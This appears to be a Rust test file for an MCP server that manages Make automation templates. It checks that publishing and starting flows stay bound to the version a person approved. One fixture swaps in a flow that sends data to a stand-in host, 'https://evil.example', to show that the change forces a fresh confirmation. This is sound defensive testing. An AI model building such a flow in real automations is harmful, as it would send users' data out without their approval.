//! What becomes public or is run is what a person was shown: publishing and flows.

use make_credentials_mcp::state::State;
use make_credentials_mcp::tools::Approvals;
use serde_json::json;

use super::person::{changes, options};
use crate::examples::example;
use crate::world::{World, approval_key, call};

#[tokio::test]
async fn a_publish_is_bound_to_the_blueprint_that_was_shown() {
    let world = World::of(options()).await;
    let publish = json!({"templateId": 601});
    let session = world.session();
    let waits = call(&session, "templates_publish", publish.clone()).await;
    let details = waits.unwrap_err().details.unwrap();
    let plan = details["plan"].to_string();
    assert!(
        plan.contains("Modules: 2") && plan.contains("google-sheets, slack"),
        "{plan}"
    );
    let approvals = Approvals::at(State::at(Some(world.home.clone())), approval_key());
    let waiting = approvals.get(details["approval"].as_str().unwrap()).await;
    assert!(
        approvals
            .decide(&waiting.unwrap().unwrap(), true, "me")
            .await
            .unwrap()
    );
    // The same modules of the same apps, and one address is another.
    let flow = json!([
        {"id": 1, "module": "google-sheets:watchRows", "version": 1, "parameters": {}, "mapper": {}, "metadata": {}},
        {"id": 2, "module": "slack:CreateMessage", "version": 1, "parameters": {}, "mapper": {"text": "x"}, "metadata": {}}]);
    let blueprint = json!({"name": "Weekly report", "flow": flow, "metadata": {"version": 1}});
    let update = json!({"templateId": 601, "blueprint": blueprint});
    call(&world.sure(), "templates_update", update)
        .await
        .unwrap();
    let refused = call(&session, "templates_publish", publish.clone())
        .await
        .unwrap_err();
    assert_eq!(json!(refused.code), "not_confirmed", "{refused:?}");
    let changed = refused.details.unwrap()["changed"].clone();
    let lines: Vec<&str> = changed
        .as_array()
        .unwrap()
        .iter()
        .map(|line| line.as_str().unwrap())
        .collect();
    assert!(
        lines.len() == 2
            && lines
                .iter()
                .all(|line| line.contains("All that it is made of: digest ")),
        "{lines:?}"
    );
    assert_eq!(changes(&world), ["PATCH /templates/601"]);
    // Asked anew about what is there now, it is published.
    let waits = call(&session, "templates_publish", publish.clone()).await;
    let details = waits.unwrap_err().details.unwrap();
    let waiting = approvals.get(details["approval"].as_str().unwrap()).await;
    assert!(
        approvals
            .decide(&waiting.unwrap().unwrap(), true, "me")
            .await
            .unwrap()
    );
    call(&session, "templates_publish", publish).await.unwrap();
}

#[tokio::test]
async fn what_cannot_be_read_is_not_published_on_a_persons_yes() {
    let world = World::of(options()).await;
    let token = world
        .zone
        .issue_token("writer", &["templates:write", "teams:read"]);
    let session = world.with(crate::world::With {
        token: Some(token),
        ..crate::world::With::default()
    });
    let refused = call(&session, "templates_publish", json!({"templateId": 601}))
        .await
        .unwrap_err();
    assert_eq!(json!(refused.code), "forbidden", "{refused:?}");
    assert!(refused.next.contains("templates:read"), "{refused:?}");
    assert_eq!(changes(&world), Vec::<String>::new());
}

#[tokio::test]
async fn a_flow_is_bound_to_the_published_version_that_was_shown() {
    let world = World::of(options()).await;
    let start = example("template_flows_start", "");
    let waits = call(&world.session(), "template_flows_start", start.clone()).await;
    let details = waits.unwrap_err().details.unwrap();
    let approvals = Approvals::at(State::at(Some(world.home.clone())), approval_key());
    let waiting = approvals.get(details["approval"].as_str().unwrap()).await;
    assert!(
        approvals
            .decide(&waiting.unwrap().unwrap(), true, "me")
            .await
            .unwrap()
    );
    // What is not published changes nothing of what is.
    let flow = json!([{"id": 1, "module": "http:ActionSendData", "mapper": {"url": "https://evil.example"}}]);
    let update =
        json!({"templateId": 602, "blueprint": {"name": "Newsletter intake", "flow": flow}});
    call(&world.sure(), "templates_update", update)
        .await
        .unwrap();
    let public = |id: u64| format!("GET /templates/{id}/blueprint?templatePublicId=9602");
    assert!(world.sent().contains(&public(602)));
    call(
        &world.sure(),
        "templates_publish",
        json!({"templateId": 602}),
    )
    .await
    .unwrap();
    let refused = call(&world.session(), "template_flows_start", start)
        .await
        .unwrap_err();
    assert_eq!(json!(refused.code), "not_confirmed", "{refused:?}");
    let changed = refused.details.unwrap()["changed"].to_string();
    assert!(changed.contains("is now: Apps: \\\"http\\\""), "{changed}");
    assert_eq!(
        changes(&world),
        ["PATCH /templates/602", "POST /templates/602/publish"]
    );
}
